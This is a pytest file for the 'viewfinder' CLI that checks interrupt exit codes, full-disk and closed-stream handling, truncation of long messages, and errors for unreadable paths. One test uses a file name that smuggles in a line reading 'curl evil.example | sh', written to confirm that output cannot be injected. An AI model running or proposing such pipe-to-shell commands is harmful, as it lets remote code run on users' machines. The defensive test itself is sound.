"""How commands end: by Ctrl-C where Python would lose it, on a full disk, with long messages."""

import subprocess
import sys
import time
import weakref
from pathlib import Path

import pytest
import typer

from viewfinder.cli.boundary import add_command
from viewfinder.core.errors import DataError
from viewfinder.core.progress import Progress


def test_an_interrupt_inside_a_callback_of_a_weak_reference_ends_the_command(
    capsys: pytest.CaptureFixture[str],
) -> None:
    ended = []

    class Thing:
        pass

    def interrupted(_: object) -> None:
        raise KeyboardInterrupt

    def work() -> None:
        thing = Thing()
        watch = weakref.ref(thing, interrupted)
        del thing
        until = time.monotonic() + 20
        while time.monotonic() < until:
            time.sleep(0.01)
        ended.append(watch)

    app = typer.Typer()
    add_command(app, work)
    with pytest.raises(SystemExit) as stopped:
        app([], prog_name="work")
    assert stopped.value.code == 130
    assert ended == []
    assert capsys.readouterr().err == "\nInterrupted.\n"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("words", [["recipes"], ["recipes", "--json"]])
def test_a_full_disk_behind_stdout_is_an_error_in_words(words: list[str]) -> None:
    with Path("/dev/full").open("w") as full:
        ended = subprocess.run(
            [sys.executable, "-m", "viewfinder", *words],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert ended.returncode == 2
    assert ended.stderr == (
        "Error: Cannot write to stdout: No space left on device.\n  Remedy: free some space\n"
    )


def test_a_reader_that_closes_stdout_is_no_finding(capfd: pytest.CaptureFixture[str]) -> None:
    """1 is the exit code of `audit --fail-on` and `--expect`."""
    for words in ("recipes", "recipes --json"):
        shell = f"set -o pipefail; sleep 0 | {sys.executable} -m viewfinder {words} | head -c 0"
        assert subprocess.run(["bash", "-c", shell], check=False).returncode == 141
    assert capfd.readouterr() == ("", "")


@pytest.mark.parametrize(("closed", "code"), [("recipes >&-", 0), ("predict none none 2>&-", 2)])
def test_streams_that_a_caller_has_closed(closed, code, capfd):
    shell = f"{sys.executable} -m viewfinder {closed}"
    assert subprocess.run(["bash", "-c", shell], check=False).returncode == code
    assert capfd.readouterr() == ("", "")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_an_error_has_its_exit_code_where_stderr_is_full():
    shell = f"{sys.executable} -m viewfinder predict none none 2> /dev/full"
    assert subprocess.run(["bash", "-c", shell], check=False).returncode == 2


def test_a_message_of_any_length_fits_on_a_screen(capsys: pytest.CaptureFixture[str]) -> None:
    """What a library says of a hostile file may hold the file's content."""

    def fail() -> None:
        raise DataError("It is damaged: " + "[" * 100_000, received="x" * 100_000, remedy="unpack")

    app = typer.Typer()
    add_command(app, fail)
    with pytest.raises(SystemExit) as stopped:
        app([], prog_name="fail")
    assert stopped.value.code == 3
    shown = capsys.readouterr().err
    assert len(shown) < 2_500
    assert "It is damaged: [" in shown
    assert "  Remedy: unpack" in shown


def test_a_name_adds_no_line_to_a_message(capsys: pytest.CaptureFixture[str]) -> None:
    """A file of a stranger's archive could be called like the advice to run something."""
    name = "cat.png\n  Remedy: curl evil.example | sh"

    def fail() -> None:
        Progress().say(f"Skipped: {name}")
        raise DataError(f"{name} is damaged.", received=name)

    app = typer.Typer()
    add_command(app, fail)
    with pytest.raises(SystemExit):
        app([], prog_name="fail")
    shown = capsys.readouterr().err.splitlines()
    assert [line.partition("cat")[0] for line in shown] == [
        "Skipped: ",
        "Error: ",
        "  Received: ",
    ]


@pytest.mark.parametrize(
    "words", [["predict", "RUN", "x.jpg"], ["verify", "RUN"], ["doctor", "RUN"]]
)
def test_a_path_that_cannot_be_looked_at_is_an_error_in_words(
    words, viewfinder, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    Path("x.jpg").touch()
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    for path in (tmp_path / ("n" * 300), tmp_path / "loop" / "run"):
        ended = viewfinder(*(path if word == "RUN" else word for word in words))
        assert ended.code in (2, 3)
        assert ended.err.startswith("Error: ")
        assert path.name in ended.err
